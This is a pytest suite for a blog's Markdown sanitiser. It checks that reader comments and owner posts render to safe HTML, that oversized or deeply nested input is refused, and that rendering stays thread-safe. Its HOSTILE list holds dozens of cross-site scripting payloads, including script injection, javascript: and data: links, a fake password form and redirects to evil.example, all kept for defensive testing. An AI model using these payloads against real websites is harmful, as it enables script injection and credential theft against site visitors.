"""Markdown to safe HTML: what readers may write, what is shown as written, what is refused."""

from __future__ import annotations

import threading

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from blog.domain.errors import InvalidInputError, TooComplexError
from blog.domain.markup import (
    _ADDRESS,
    MAX_ANGLE_BRACKETS,
    MAX_COMMENT_CHARS,
    MAX_COMMENT_ELEMENTS,
    MAX_NESTING,
    MAX_POST_CHARS,
    _comment_cleaner,
    check_caps,
    excerpt,
    plain_text,
    render_comment,
    render_post,
)
from tests.blog.domain.reading import read_comment, read_post

REL = 'rel="nofollow ugc noopener"'


@pytest.mark.parametrize(
    ("body", "page"),
    [
        ("plain", "<p>plain</p>"),  # a paragraph
        ("one\ntwo", "<p>one<br>\ntwo</p>"),  # people expect their line ends to stay
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>"),
        ("# Loud", "<p><strong>Loud</strong></p>"),  # headings belong to the page
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),  # a quote
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'),  # numbers are kept
        ("[t](https://a.org/x)", f'<p><a href="https://a.org/x" {REL}>t</a></p>'),  # a link
        ("see a.org.", f'<p>see <a href="http://a.org" {REL}>a.org</a>.</p>'),  # a bare address
        ("(see a.org)", f'<p>(see <a href="http://a.org" {REL}>a.org</a>)</p>'),  # in parentheses
        ("x@a.org", f'<p><a href="mailto:x@a.org" {REL}>x@a.org</a></p>'),  # a mail address
        ("foo-a.org/b?c=d", f'<p><a href="http://foo-a.org/b?c=d" {REL}>foo-a.org/b?c=d</a></p>'),
        ("-a.org", "<p>-a.org</p>"),  # no host begins with a hyphen
        ("`a.org`", "<p><code>a.org</code></p>"),  # code stays code
        ("![cat](https://a.org/c.png)", f'<p><a href="https://a.org/c.png" {REL}>cat</a></p>'),
        ("1 < 2 && 3 > 2", "<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>"),  # nothing is lost
        ("<b>bold</b>", "<p>&lt;b&gt;bold&lt;/b&gt;</p>"),  # HTML is shown as written
        ("<https://a.org>", f'<p><a href="https://a.org" {REL}>https://a.org</a></p>'),
        ("&copy; &#169;", "<p>© ©</p>"),  # entities are letters
        ("a\x01b", "<p>a\ufffdb</p>"),  # no control reaches a page
        ("a\ue000b", "<p>a\ufffdb</p>"),  # nor the mark that stands for a bracket
        ("`x < y`", "<p><code>x &lt; y</code></p>"),  # brackets in code stay
        ("    if a < b:\n", "<pre><code>if a &lt; b:\n</code></pre>"),  # and in code blocks
        ("[t](/local)", f"<p><a {REL}>t</a></p>"),  # readers link to the web, not into the blog
        ("[t](https://a.org/<x)", f'<p><a href="https://a.org/%3Cx" {REL}>t</a></p>'),
        ("e\u0301\u202e مرحبا", "<p>e\u0301\u202e مرحبا</p>"),  # letters are not touched
    ],
)
def test_comments_say_what_was_typed(body, page):
    assert render_comment(body).strip() == page


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=java\nscript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.example)',
    '[x](https://a.org "title\\" onmouseover=\\"alert(1)")',
    '[x](https://a.org/"onmouseover=alert(1))',
    "[x](https://a.org 'a' onclick=alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    'a.org/"onmouseover="alert(1)',
    "http://a.org/'onmouseover='alert(1)",
    "www.a.org/<script>alert(1)</script>",
    "http://user:password@evil.example/",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\n```',
    "``` onclick=alert(1)\nx\n```",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "~~<script>~~alert(1)~~</script>~~",
    "- [x] <input autofocus onfocus=alert(1)>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "\ue000script\ue000alert(1)\ue000/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)",
    "<a\x00href='javascript:alert(1)'>x</a>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<p id=comment-form name=body>clobber</p>",
    "<custom-element onclick=alert(1)>",
    "<b/onclick=alert(1)>x",
    "<<script>script>alert(1)<</script>/script>",
    "＜script＞alert(1)＜/script＞",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_nothing_in_a_comment_can_run_or_fetch(body):
    page = render_comment(body)

    assert read_comment(page).all_faults() == []


@pytest.mark.parametrize("body", HOSTILE)
def test_nothing_in_a_post_can_run(body):
    assert read_post(render_post(body)).all_faults() == []


@pytest.mark.parametrize(
    "body",
    [
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "a <b onclick=x>c</b> d",
        "<!-- hidden? -->",
        "if (a<b && c>d) x<<1",
        "<style>p{}</style><iframe>",
        "&lt;b&gt; <i>",
    ],
)
def test_typed_html_is_shown_as_written(body):
    shown = read_comment(render_comment(body)).text

    assert shown.strip() == body.replace("&lt;", "<").replace("&gt;", ">")


def test_links_of_readers_give_no_rank_and_no_way_back():
    body = "a.org https://b.org [c](https://c.org) <https://d.org> x@e.org ![f](https://f.org)"

    links = read_comment(render_comment(body)).links

    assert len(links) == 6
    assert {link["rel"] for link in links} == {"nofollow ugc noopener"}


def beginning(body: str) -> str:
    """Name a long text in a test's name."""
    return ascii(body[:12])


# Pieces that mean something to Markdown, to HTML or to an address.
PIECES = ["<", ">", "&", '"', "'", "`", "*", "_", "[", "]", "(", ")", "!", "#", "|", "\n", "\n\n"]
PIECES += ["    ", "- ", "1. ", "> ", "~~", "```", "http://", "https://a.org", "a.org", "www.", "@"]
PIECES += ["javascript:", "data:", "script", "<script>", "</p>", "&lt;", "&#x3c;", "\\", "\ue000"]
PIECES += ["style", " onload=", "svg", "x", " ", "\x00", "\u202e", "\u0301", "é", "[^1]", "[^1]: "]
mixtures = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=60).map("".join)


@given(mixtures)
@settings(max_examples=200, deadline=None)
def test_any_comment_gives_safe_html(body):
    try:
        page = render_comment(body)
    except TooComplexError:
        return

    assert read_comment(page).all_faults() == []
    assert nh3_again(page) == page


@given(mixtures)
@settings(max_examples=100, deadline=None)
def test_any_post_gives_safe_html(body):
    assert read_post(render_post(body)).all_faults() == []


def nh3_again(page: str) -> str:
    """Sanitise what was sanitised: the last word said twice is the same word."""
    return _comment_cleaner()[1].clean(page)


@pytest.mark.parametrize("body", HOSTILE)
def test_sanitising_twice_changes_nothing(body):
    page = render_comment(body)

    assert nh3_again(page) == page


@pytest.mark.parametrize(
    "body",
    [
        "x" * (MAX_COMMENT_CHARS + 1),  # too long
        "<" * (MAX_ANGLE_BRACKETS + 1),  # too many brackets
        ">" * 5_000,  # quotes without end: seconds in the first sanitiser
        "> " * 5_000,
        "* + - " * 1_600,  # lists in lists
        "1. " * 3_333,
        "".join("  " * depth + "- a\n" for depth in range(95)),
        "#\n" * 5_000,  # thousands of empty headings
        "-\n" * 5_000,  # thousands of points
        "a\n" * 5_000,  # thousands of lines
        "|a|b|\n|-|-|\n" + "|x|y|\n" * 1_600,  # a table with thousands of cells
    ],
    ids=beginning,
)
def test_what_is_too_complex_is_refused_with_the_cap(body):
    with pytest.raises(TooComplexError, match=r"Expected at most [\d,]+ .*, found [\d,]+\."):
        render_comment(body)


@pytest.mark.parametrize(
    "body",
    [
        "x" * MAX_COMMENT_CHARS,  # as long as allowed
        "<" * MAX_ANGLE_BRACKETS,  # as many brackets
        ">" * (MAX_NESTING - 1) + "a",  # as deep, with the paragraph inside
        "a\n" * (MAX_COMMENT_ELEMENTS - 1),  # as many lines
        "*" * 10_000,  # a rule
        "*a " * 3_333,  # stars that close nothing
        "a**b" * 2_500,
        "_a_" * 3_333,
        "&" * 10_000,
        "&a" * 5_000,
        "[" * 10_000,
        "[a](" * 2_500,
        "[" * 5_000 + "]" * 5_000,
        "![" * 5_000,
        "`" * 10_000,
        "".join("`" * n + "a" for n in range(139)),
        "[^1]" * 2_500,
        "[^1]: a\n" * 1_250,
        "(" * 10_000,
        "a-a." * 2_500,  # eleven seconds for the linkifier's own pattern
        "a-" * 5_000,
        "a." * 5_000,
        "x.com/" + "(" * 9_000,
        "x.com/" + "," * 9_000,
        "http://" * 1_428,
        "www." * 2_500,
        "a@a.org " * 1_250,
        "e" + "\u0301" * 9_999,
        "\r\n" * 5_000,
    ],
    ids=beginning,
)
def test_what_is_within_the_caps_is_rendered_safely(body):
    page = render_comment(body[:MAX_COMMENT_CHARS])

    assert read_comment(page).all_faults() == []


def test_looking_for_addresses_begins_once_for_each_word():
    """What made the linkifier's own pattern slow were its many beginnings in one word."""
    hostile = "a-a." * 2_500

    beginnings = [at for at in range(len(hostile)) if _ADDRESS.match(hostile[:at] + "b.org", at)]

    assert beginnings == [0]


def test_caps_are_checked_before_anything_is_parsed():
    check_caps("x" * MAX_COMMENT_CHARS)
    with pytest.raises(TooComplexError, match="at most 10,000 characters, found 10,001"):
        check_caps("x" * (MAX_COMMENT_CHARS + 1))
    with pytest.raises(TooComplexError, match="at most 400 “<” characters, found 401"):
        check_caps("<" * (MAX_ANGLE_BRACKETS + 1))


def test_a_refusal_names_the_field_and_is_a_refused_input():
    with pytest.raises(InvalidInputError) as refused:
        render_comment(">" * 5_000)

    assert list(refused.value.fields) == ["body"]
    assert f"at most {MAX_NESTING} levels" in refused.value.fields["body"]


@pytest.mark.parametrize(
    ("body", "page"),
    [
        ("# Title", "<h2>Title</h2>"),  # the page has the only h1
        ("## Part", "<h2>Part</h2>"),
        ("a\nb", "<p>a\nb</p>"),  # a post is written in lines
        ("![cat](/c.png)", '<p><img src="/c.png" alt="cat"></p>'),  # the owner's pictures
        ("[t](/posts/x)", '<p><a href="/posts/x">t</a></p>'),  # the owner's links, without rel
        ("a --- b", "<p>a — b</p>"),  # typographic
        ("***", "<hr>"),
        ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>"),  # not even the owner writes HTML
        ("|a|\n|:-:|\n|b|", '<table>\n<thead>\n<tr>\n<th align="center">a</th>'),
        ("```\nplain <b>\n```", '<pre><code class="highlight">plain &lt;b&gt;\n</code></pre>'),
        ("```python\ndef f(): pass\n```", '<span class="k">def</span>'),  # classes, no styles
        ("```no-such\nx < y\n```", '<code class="highlight">x &lt; y\n</code>'),
        ("x[^1]\n\n[^1]: note", 'id="fn-1"'),  # footnotes
    ],
)
def test_posts_have_what_owners_need(body, page):
    assert page in render_post(body)


def test_posts_have_caps_too():
    with pytest.raises(TooComplexError, match="at most 500,000 characters"):
        render_post("x" * (MAX_POST_CHARS + 1))
    with pytest.raises(TooComplexError, match="levels of quotes"):
        render_post(">" * 5_000)


def test_a_post_may_have_more_pieces_than_a_comment(subtests):
    with subtests.test("a comment may not"), pytest.raises(TooComplexError):
        render_comment("-\n" * 4_000)
    assert render_post("-\n" * 4_000).count("<li>") == 4_000


def test_threads_do_not_disturb_each_other():
    """The first sanitiser is not thread-safe, so each thread has its own."""
    body = "**a** [b](https://c.org) <script>" * 30
    expected = render_comment(body)
    wrong: list[str] = []

    def work() -> None:
        wrong.extend(page for page in (render_comment(body) for _ in range(15)) if page != expected)

    threads = [threading.Thread(target=work) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert wrong == []


@pytest.mark.parametrize(
    ("page", "text"),
    [
        ("<p>a</p><p>b</p>", "a b"),  # paragraphs do not run together
        ("<p>a<br>b</p>", "a b"),
        ("<ul><li>a</li><li>b</li></ul>", "a b"),
        ("<p>a &lt;b&gt; &amp;amp;</p>", "a <b> &amp;"),  # read once, not twice
        ("<p>a  \n\t b</p>", "a b"),
        ("", ""),
    ],
)
def test_plain_text(page, text):
    assert plain_text(page) == text


@pytest.mark.parametrize(
    ("text", "cut"),
    [
        ("short", "short"),  # nothing to cut
        ("one two three", "one two…"),  # ends at a word
        ("one two, three", "one two…"),  # without its comma
        ("abcdefghijkl", "abcdefghij…"),  # a word longer than all
    ],
)
def test_excerpt(text, cut):
    assert excerpt(text, max_chars=10) == cut
